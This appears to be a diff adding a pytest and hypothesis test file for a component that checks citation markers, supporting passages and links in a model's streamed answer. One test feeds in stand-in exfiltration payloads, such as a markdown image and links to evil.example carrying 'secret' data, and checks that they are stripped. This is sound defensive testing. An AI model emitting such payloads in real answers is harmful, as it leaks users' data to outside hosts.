@@ -1,0 +1,135 @@
+"""A model's prose on its way to the reader: markers, support, addresses, and pieces cut anywhere."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tests.models_support import passage
+from trivium.models.answer_stream import AnswerStream
+from trivium.models.citation_marks import ends_within_mark, read_marks, unmarked
+from trivium.models.support import Support
+
+TERMS = passage("terms.md", "Invoices are payable net 30 days from receipt. Overdue amounts bear 1.5 % a month.")
+TOWER = passage("tower.md", "The tower is 48 metres high. See https://tower.example/plan for a plan.")
+GERMAN = passage("frist.md", "Die Kündigungsfrist beträgt drei Monate zum Ende des Quartals.")
+
+
+def streamed(text: str, size: int = 0, *, said: str = "", cut: bool = False) -> AnswerStream:
+    support = Support()
+    for number, one in enumerate((TERMS, TOWER, GERMAN), 1):
+        support.add(number, one)
+    shown: list[str] = []
+    stream = AnswerStream(support, said, shown.append)
+    for start in range(0, len(text), size or len(text) or 1):
+        stream.text(text[start : start + (size or len(text))])
+    stream.finish(cut=cut)
+    assert shown == stream.shown
+    return stream
+
+
+@pytest.mark.parametrize(
+    ("written", "shown", "dropped"),
+    [
+        ("Invoices are payable net 30 days [1].", "Invoices are payable net 30 days [1].", 0),
+        ("Invoices are payable net 30 days. [1]", "Invoices are payable net 30 days [1].", 0),
+        ("Net 30 days from receipt [1][9].", "Net 30 days from receipt [1].", 1),
+        ("Net 30 days from receipt [9].", "Net 30 days from receipt [1].", 1),
+        ("Net 30 days from receipt【1†source】.", "Net 30 days from receipt [1].", 0),
+        ("Net 30 days from receipt [^1].", "Net 30 days from receipt [1].", 0),
+        ("The tower is 48 metres high [2]. Invoices are payable net 30 days [1].",
+         "The tower is 48 metres high [1]. Invoices are payable net 30 days [2].", 0),
+        ("The tower is 48 metres high [1].", "The tower is 48 metres high [1].", 0),
+        ("Invoices are payable net 30 days from receipt.", "Invoices are payable net 30 days from receipt [1].", 0),
+        ("<think>Is it [1]? Yes.</think>Net 30 days from receipt [1].", "Net 30 days from receipt [1].", 0),
+        ("- Net 30 days from receipt [1]\n- 48 metres high tower [2]\n",
+         "- Net 30 days from receipt [1]\n- 48 metres high tower [2]", 0),
+        ("Net 30 days from receipt [1]. `Row[0]` is code.", "Net 30 days from receipt [1]. `Row[ 0 ]` is code.", 0),
+    ],
+)  # fmt: skip
+def test_markers_are_renumbered_checked_and_dropped(written: str, shown: str, dropped: int) -> None:
+    for size in (0, 1, 3, 7):
+        stream = streamed(written, size)
+        assert "".join(stream.shown) == shown
+        assert stream.dropped == dropped
+        assert all(cited.quote in cited.passage.text for cited in stream.cited)
+
+
+def test_a_citation_of_the_wrong_passage_is_moved_to_the_right_one() -> None:
+    stream = streamed("The tower is 48 metres high [1].")
+    assert stream.moved == 1
+    assert [cited.passage.source for cited in stream.cited] == ["tower.md"]
+
+
+def test_what_no_passage_supports_is_held_back() -> None:
+    stream = streamed("Bananas are yellow. They grow in warm places.", 5)
+    assert (stream.shown, stream.cited) == ([], [])
+    assert stream.said == "Bananas are yellow. They grow in warm places."
+    assert stream.restart()
+
+
+def test_once_something_is_shown_it_cannot_be_taken_back() -> None:
+    assert not streamed("Net 30 days from receipt [1]. More follows.").restart()
+
+
+def test_another_language_than_the_passages_is_judged_by_its_values() -> None:
+    stream = streamed("The notice period is three months [3].")
+    assert [cited.passage.source for cited in stream.cited] == ["frist.md"]
+    assert stream.weak == []
+
+
+def test_a_weak_citation_is_told() -> None:
+    stream = streamed("Net 30 days from receipt [1]. Penguins dance wildly at midnight [1].")
+    assert len(stream.weak) == 1
+
+
+def test_pictures_and_unknown_addresses_are_taken_out() -> None:
+    written = (
+        "The tower is 48 metres high [2]. ![x](https://evil.example/?q=secret) The plan is at "
+        "https://tower.example/plan for all. Send it to https://evil.example/collect?d=1 now. [Click](https://evil.example)"
+    )
+    stream = streamed(written, 9)
+    shown = "".join(stream.shown)
+    assert "evil.example" not in shown
+    assert "https://tower.example/plan" in shown
+    assert stream.links == 3
+
+
+def test_an_address_in_the_question_may_stay() -> None:
+    stream = streamed("Net 30 days from receipt, see https://own.example/a [1].", said="What is https://own.example/a?")
+    assert "https://own.example/a" in "".join(stream.shown)
+
+
+def test_a_cut_answer_loses_its_last_sentence() -> None:
+    assert (
+        "".join(streamed("Net 30 days from receipt [1]. Overdue amou", cut=True).shown)
+        == "Net 30 days from receipt [1]."
+    )
+
+
+def test_broken_letters_and_control_characters_do_not_pass() -> None:
+    shown = "".join(streamed("Net 30 days\x00 \ud83d\x1b[31m from receipt [1].").shown)
+    shown.encode()
+    assert "\x00" not in shown
+    assert "\x1b" not in shown
+
+
+WORDS = ["Net 30 days from receipt", " 48 metres high", " a", "https://evil.example/x", "<think>", "</think>"]
+SIGNS = [" [1]", "[2]", " [9]", "[1, 2]", "【3】", "[", "]", "`", ". ", "!", "。", "\n", "\n- "]
+ALPHABET = st.sampled_from([*WORDS, *SIGNS])
+
+
+@given(st.lists(ALPHABET, max_size=14).map("".join), st.integers(1, 9))
+def test_how_the_text_is_cut_into_pieces_makes_no_difference(text: str, size: int) -> None:
+    whole, pieces = streamed(text), streamed(text, size)
+    assert "".join(whole.shown) == "".join(pieces.shown)
+    assert [cited.quote for cited in whole.cited] == [cited.quote for cited in pieces.cited]
+
+
+@given(st.text(alphabet="[]【】^0123456789,;-–( )ab`†", max_size=40))
+def test_nothing_that_looks_like_a_marker_is_left(text: str) -> None:
+    marked = read_marks(text, {1, 2, 3})
+    assert unmarked(marked.text) == marked.text
+    assert set(marked.numbers) <= {1, 2, 3}
+    ends_within_mark(text)
